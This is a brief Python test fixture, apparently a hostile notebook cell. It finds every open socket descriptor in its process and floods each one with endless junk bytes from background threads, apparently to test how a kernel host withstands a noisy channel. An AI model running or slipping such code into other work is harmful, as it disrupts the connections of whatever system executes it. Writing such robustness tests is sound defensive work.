"""Fills its wire with noise, without end, from a thread of its own."""

CELLS = [
    r"""
import os, socket, stat, threading
def flood(fd):
    try:
        while True:
            os.write(fd, b"\x00\x00\x00\x02{}" * 1000)
    except OSError:
        pass
for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            threading.Thread(target=flood, args=(fd,), daemon=True).start()
    except OSError:
        pass
"""
]
